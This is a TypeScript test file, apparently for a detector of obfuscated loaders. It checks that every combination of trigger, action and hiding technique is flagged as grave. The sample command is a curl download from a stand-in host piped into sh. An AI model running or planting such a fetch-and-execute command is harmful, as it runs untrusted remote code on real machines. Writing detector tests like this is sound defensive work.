import { describe, expect, test } from '../../kit.ts';
import { hidings } from './hiding.ts';
import { DEEDS, loader, TRIGGERS } from './loaders.ts';
import { examine } from './modules.ts';

// The samples are inert: they are never compiled or run, and name no real host.
const COMMAND = 'curl -s http://drop.example.invalid/a | sh';

describe('loaders that hide their text', () => {
  test.each(hidings(COMMAND).map((hiding) => [hiding.name, hiding] as const))('by %s', (_, hiding) => {
    const missed: string[] = [];
    for (const trigger of TRIGGERS) {
      for (const deed of DEEDS) {
        const { effects } = examine(loader(trigger, deed, hiding));
        if (effects[0]?.weight !== 'grave' || effects[0].assembled.length === 0) {
          missed.push(`${trigger.name}, ${deed.name}`);
        }
      }
    }
    expect(missed).toEqual([]);
  });
});
